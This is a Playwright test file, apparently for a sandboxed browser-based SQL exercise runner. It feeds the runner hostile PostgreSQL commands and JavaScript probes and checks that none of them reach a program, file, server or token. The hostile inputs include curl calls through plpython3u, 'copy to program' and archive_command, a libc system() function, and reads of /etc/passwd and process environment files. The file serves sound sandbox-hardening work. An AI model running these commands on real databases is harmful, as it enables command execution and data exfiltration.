import type { Page } from '@playwright/test'
import { ended, pressRun, typeCode } from './exercise-runs.ts'
import { expectUnharmed, listenOutside, runHostile } from './hostile-code.ts'
import { expect, test, thorough } from './test.ts'

// Hostile SQL, whose database is a file in the memory of a worker, and hostile tests of SQL, which are JavaScript.

test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })

const { outside, received } = listenOutside()

async function runQuery(page: Page, code: string): Promise<void> {
  await typeCode(page, code)
  await pressRun(page)
}

const linkOf = ({ hostname, port }: URL) => `host=${hostname} port=${port} user=a dbname=a`

/** Commands after which the database goes on, so that one run tries all of them. */
const attempts = (url: URL): string[] => [
  'create extension dblink',
  `select * from dblink('${linkOf(url)}', 'select 1') as t (a int)`,
  'create extension postgres_fdw',
  `create server s foreign data wrapper postgres_fdw options (host '${url.hostname}', port '${url.port}')`,
  'create extension http',
  `select http_get('${url.origin}/http')`,
  'create extension plpython3u',
  `do $$ import os; os.system('curl ${url.origin}/py') $$ language plpython3u`,
  "create function jahat() returns int language c as 'libc.so.6', 'system'",
  'select jahat()',
  "load '/tmp/jahat.so'",
  "select lo_import('/etc/passwd')",
  "select lo_export(1, '/tmp/keluar')",
  "select pg_read_file('/proc/self/environ')",
  `notify a, '${url.host}'`,
  'listen a',
  `alter system set archive_command = 'curl ${url.origin}/arsip'`,
  'select pg_reload_conf(), pg_switch_wal()',
]

/** Commands that may leave the database broken or busy: each has a run, and the next one a new database. */
const lastAttempts = (url: URL): string[] => [
  `copy (select 1) to program 'curl ${url.origin}/copy'`,
  `create table t (a text); copy t from program 'curl ${url.origin}/salin'; select * from t`,
  `create subscription s connection '${linkOf(url)}' publication p`,
  'select pg_terminate_backend(pg_backend_pid())',
]

const hostileTests = (url: URL): string => `
tes('tidak ada jalan keluar', async () => {
  const berhasil = []
  for (const [nama, coba] of Object.entries({
    fetch: () => fetch('${url.origin}/fetch'),
    xhr() { const x = new XMLHttpRequest(); x.open('GET', '${url.origin}/xhr', false); x.send() },
    impor: () => importScripts('${url.origin}/impor.js'),
    modul: () => import('${url.origin}/modul.js'),
    penyimpanan: () => localStorage.length,
    basis: () => new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b }),
    cache: () => caches.open('x'),
    induk: () => parent.document,
    memori: () => new SharedArrayBuffer(1),
  })) try { await coba(); berhasil.push(nama) } catch {}
  for (const coba of [
    () => new WebSocket('ws://${url.host}/soket'),
    () => new EventSource('${url.origin}/peristiwa'),
    () => new Worker('${url.origin}/pekerja.js'),
  ]) try { coba() } catch {}
  harap(berhasil).sama([])
})
tes('semua perintah dicoba', async () => {
  for (const perintah of ${JSON.stringify(attempts(url))}) {
    // A command tries something only in a database that still answers.
    await kueri('select 1')
    try { await kueri(perintah) } catch {}
  }
})
tes('basis datanya baru', async () => {
  const jejak = ["select pg_read_file('/tmp/bekas')", 'select * from bekas']
  const tersisa = []
  for (const perintah of jejak) try { await kueri(perintah); tersisa.push(perintah) } catch {}
  harap(tersisa).sama([])
  await kueri("copy (select 'bekas') to '/tmp/bekas'")
  await kueri('create table bekas (a int)')
  for (const perintah of jejak) await kueri(perintah)
})`

test(
  'hostile SQL and hostile tests of SQL reach no program, no server, no file and no token, and the next run has a new database',
  thorough,
  async ({ page, request }) => {
    test.setTimeout(300_000)
    const url = new URL(outside())
    const run = await runHostile({ page, request, outside: outside() }, 'sql', 'select 1', hostileTests(url))
    await expect(page.getByText('Semua 3 tes lulus!')).toBeVisible({ timeout: 40_000 })
    for (const attempt of lastAttempts(url)) {
      await runQuery(page, attempt)
      await expect(page.getByText(ended), attempt).toBeVisible({ timeout: 40_000 })
    }
    // Each run leaves a file and a table, which the next one would find.
    await runQuery(page, 'select 1')
    await expect(page.getByText('Semua 3 tes lulus!')).toBeVisible({ timeout: 40_000 })
    await expectUnharmed(page, run, received)
  },
)

/** Never ends with the query of one of the cases. */
const tests = "tes('selesai', () => { while (berkas('kueri.sql').includes('putar')); harap(1).sama(1) })"

/** Timeouts are followed by cases that only a working database answers. */
const mistakes = [
  // The exercise starts with this one: to type so long a line may take the browser minutes.
  ['2,000 results', 'select 1;'.repeat(2_000), [/keluarannya terlalu banyak|Sisanya tidak tampil/]],
  [
    'an endless recursive query',
    'with recursive ulang as (select 1 as n union all select n + 1 from ulang) select count(*) from ulang',
    [/dihentikan setelah 5 detik|memakai terlalu banyak memori/],
  ],
  [
    '10 MB of output in many lines and in one',
    "select repeat('x', 100) from generate_series(1, 100000); select repeat('x', 10000000) as panjang",
    [/… dan 99\.?980 baris lagi/, /x{100}…/],
  ],
  ['a test that never ends', "select 'putar'", [/dihentikan setelah 5 detik/]],
  [
    'recursion',
    'create function f() returns int language sql as $$ select 1 $$; create or replace function f() returns int language plpgsql as $$ begin return f(); end $$; select f()',
    [/memanggil dirinya tanpa henti/],
  ],
  ['a syntax error', 'selec 1', [/kueri\.sql, baris 1: Susunan perintah SQL salah/]],
] as const

test(
  'SQL and a test of it that never end, floods and mistakes end in a sentence, and the next run works',
  thorough,
  async ({ page, request }) => {
    test.setTimeout(300_000)
    const [[, first]] = mistakes
    const run = await runHostile({ page, request, outside: outside() }, 'sql', first, tests)
    for (const [name, code, sentences] of mistakes)
      await test.step(`in SQL, ${name} ends in a sentence`, async () => {
        if (code !== first) await runQuery(page, code)
        for (const sentence of sentences)
          await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 40_000 })
        await expect(page.getByText(ended)).toBeVisible({ timeout: 40_000 })
        await expectUnharmed(page, run, received)
      })
    await runQuery(page, 'select 1 as lanjut')
    await expect(page.getByText('Semua 1 tes lulus!')).toBeVisible({ timeout: 40_000 })
    await expectUnharmed(page, run, received)
  },
)
